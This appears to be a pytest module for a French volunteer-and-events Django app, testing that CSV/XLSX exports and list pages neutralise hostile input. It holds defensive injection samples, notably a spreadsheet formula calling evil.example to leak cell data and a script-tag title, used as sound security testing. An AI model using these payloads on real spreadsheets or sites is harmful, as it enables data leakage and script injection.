"""Hostile or mistaken input: formulas and HTML in what people typed, control characters,
and filter values that mean nothing. Cells never run as formulas, pages never run scripts,
and a value not understood is a visible note, never an error."""

import pytest

from jres.exports.models import ExportLog
from jres.volunteers.models import Volunteer
from tests.events.factories import EventFactory
from tests.exports.conftest import column, read_csv, read_xlsx, xlsx_cells

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "+33 6 12 34 56 78",
    "-2+3",
    "@SUM(A1:A9)",
    "=1+1",
    "#N/A",
]


@pytest.fixture
def hostile_volunteers(france):
    return [
        Volunteer.objects.create(
            name=name,
            email=f"v{number}@example.net",
            commune=france.bordeaux,
            availability="weekly",
            heard_from="other",
        )
        for number, name in enumerate(FORMULAS)
    ]


def test_csv_cells_that_start_a_formula_are_neutralised(client, coordinator, hostile_volunteers):
    client.force_login(coordinator)
    rows = read_csv(client.get("/gestion/donnees/benevoles.csv"))

    names = column(rows, "Nom")
    assert sorted(names) == sorted("'" + name if name[0] in "=+-@" else name for name in FORMULAS)
    assert not any(cell[:1] in {"=", "+", "-", "@"} for row in rows for cell in row)


def test_xlsx_cells_are_text_never_formulas(client, coordinator, hostile_volunteers):
    client.force_login(coordinator)
    cells = xlsx_cells(client.get("/gestion/donnees/benevoles.xlsx"))

    names = [row[0] for row in cells[1:]]
    assert sorted(cell.value for cell in names) == sorted(FORMULAS)
    types = {cell.data_type for row in cells for cell in row if cell.value is not None}
    assert "f" not in types and "e" not in types
    assert all(cell.data_type == "s" for cell in names)


def test_html_in_titles_is_text_in_the_files_and_escaped_on_the_page(
    client, moderator, current_edition, france
):
    EventFactory(
        edition=current_edition,
        commune=france.bordeaux,
        title='<script>alert("x")</script><b>Gras</b>',
    )
    client.force_login(moderator)

    html = client.get("/gestion/donnees/evenements/").content.decode()
    assert "<script>alert" not in html and "&lt;script&gt;alert" in html
    assert "<b>Gras</b>" not in html
    csv_rows = read_csv(client.get("/gestion/donnees/evenements.csv"))
    assert column(csv_rows, "Titre") == ['<script>alert("x")</script><b>Gras</b>']
    xlsx_rows = read_xlsx(client.get("/gestion/donnees/evenements.xlsx"))
    assert column(xlsx_rows, "Titre") == ['<script>alert("x")</script><b>Gras</b>']


def test_control_characters_do_not_break_the_xlsx(client, coordinator, france):
    Volunteer.objects.create(
        name="Ana\x01\x08is\x0b",
        email="anais@example.net",
        commune=france.bordeaux,
        availability="weekly",
        heard_from="other",
    )
    client.force_login(coordinator)

    assert column(read_xlsx(client.get("/gestion/donnees/benevoles.xlsx")), "Nom") == ["Anais"]
    assert column(read_csv(client.get("/gestion/donnees/benevoles.csv")), "Nom") == [
        "Ana\x01\x08is\x0b"
    ]


UNKNOWN = {
    "edition": "1789",
    "region": "<script>x</script>",
    "departement": "999",
    "statut": "approuvé",
    "type": "x" * 500,
    "public": "martiens",
}


def test_unknown_filter_values_are_ignored_with_a_note(client, moderator, current_edition, france):
    EventFactory(edition=current_edition, commune=france.bordeaux, title="Débat à Bordeaux")
    client.force_login(moderator)

    response = client.get("/gestion/donnees/evenements/", UNKNOWN)

    html = response.content.decode()
    assert response.status_code == 200
    assert "Débat à Bordeaux" in html and "1 ligne" in html
    for note in (
        "édition « 1789 » inconnue",
        "département « 999 » inconnu",
        "statut « approuvé » inconnu",
        "public « martiens » inconnu",
    ):
        assert f"Filtre ignoré : {note}" in html.replace("&nbsp;", " ")
    assert "&lt;script&gt;x&lt;/script&gt;" in html and "<script>x" not in html
    # A long value is quoted back shortened.
    assert "type « " + "x" * 39 + "… » inconnu" in html


def test_unknown_filters_are_not_logged_as_applied(client, moderator, current_edition):
    client.force_login(moderator)

    response = client.get("/gestion/donnees/evenements.csv", UNKNOWN)

    assert response.status_code == 200
    assert ExportLog.objects.get().filters == {"edition": 2026}


def test_a_filter_that_does_not_apply_to_the_data_says_so(client, moderator, current_edition):
    client.force_login(moderator)

    html = client.get("/gestion/donnees/collectivites/?statut=labelled&public=parents").content
    notes = html.decode().replace("&nbsp;", " ")

    assert "Filtre ignoré : « statut » ne s&#x27;applique pas à ces données" in notes
    assert "Filtre ignoré : « public » ne s&#x27;applique pas à ces données" in notes


@pytest.mark.parametrize("kind", ["collectivites", "initiatives", "benevoles"])
def test_an_edition_given_for_data_of_no_edition_is_no_note(
    client, coordinator, current_edition, france, kind
):
    """The dashboard's links carry the edition to every list."""
    client.force_login(coordinator)

    response = client.get(f"/gestion/donnees/{kind}/?edition=2026&region=75")

    assert response.context["filters"].ignored == []
    assert response.context["query"] == "region=75"


@pytest.mark.parametrize(
    "query",
    [
        "?edition=99999999999999999999",
        "?page=999999999999",
        "?page=-1",
        "?region=%00",
        "?departement=2a",
        "?edition=2026&edition=toutes",
        "?public=" + "&public=".join("abc" * 20),
    ],
)
def test_odd_values_never_fail(client, moderator, current_edition, query):
    client.force_login(moderator)

    assert client.get("/gestion/donnees/evenements/" + query).status_code == 200
    assert client.get("/gestion/donnees/evenements.csv" + query).status_code == 200


def test_a_lower_case_department_code_is_understood(client, moderator, current_edition, france):
    EventFactory(edition=current_edition, commune=france.ajaccio, title="Débat à Ajaccio")
    EventFactory(edition=current_edition, commune=france.bordeaux, title="Débat à Bordeaux")
    client.force_login(moderator)

    rows = read_csv(client.get("/gestion/donnees/evenements.csv?departement=2a"))

    assert column(rows, "Titre") == ["Débat à Ajaccio"]
